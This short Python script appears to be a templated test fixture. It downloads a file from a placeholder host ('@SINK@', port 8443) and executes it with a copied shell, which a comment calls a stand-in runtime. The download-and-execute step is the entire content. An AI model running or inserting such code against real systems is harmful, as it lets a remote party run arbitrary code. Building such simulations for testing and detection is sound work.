import shutil
import subprocess
import urllib.request
from pathlib import Path

RUNTIME, BUNDLE = Path("@MARKS@/bun"), Path("@MARKS@/bundle")

BUNDLE.write_bytes(urllib.request.urlopen("http://@SINK@:8443/runtime", timeout=3).read())
shutil.copy(shutil.which("dash") or "/bin/sh", RUNTIME)  # a stand-in for the runtime that it brings
subprocess.run([RUNTIME, BUNDLE], check=False, timeout=20)
